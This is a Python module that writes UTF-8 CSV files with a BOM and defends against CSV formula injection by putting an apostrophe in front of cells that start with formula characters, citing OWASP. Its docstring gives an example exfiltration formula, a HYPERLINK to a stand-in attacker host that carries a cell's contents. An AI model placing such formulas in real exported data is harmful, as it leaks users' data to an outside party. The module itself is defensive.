"""Every CSV file the project writes, written one way: UTF-8 with a BOM (Excel then reads Thai), and no cell a
spreadsheet would run as a formula.

CSV (formula) injection: a spreadsheet treats a cell that begins with =, +, -, @, a tab, a carriage return or
a line feed as a formula, so a team named `=HYPERLINK("http://evil.example/?d="&C2,"Open")` becomes a link
that sends the row away. OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection): prepend a
single quote to such a cell, which spreadsheets read as "this is text", and let the CSV writer quote and
double the quotes of every field. Spreadsheets skip leading spaces before deciding, and some read the
full-width forms (＝ ＋ － ＠) as the ASCII ones, so those count too. The text stays readable: one apostrophe in
front, nothing removed.
"""
from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Sequence

FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")


def neutralise(value: Any) -> Any:
    """`value` as a spreadsheet will show it and never run it: text starting (after spaces) with a formula
    character gets a leading apostrophe. Numbers, None and other text are returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    first = value.lstrip(" \u00a0\u3000")[:1]
    if first in FORMULA_STARTS or value[0] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_document(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV file as text: the BOM, the header, then each row with every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return "\ufeff" + buffer.getvalue()
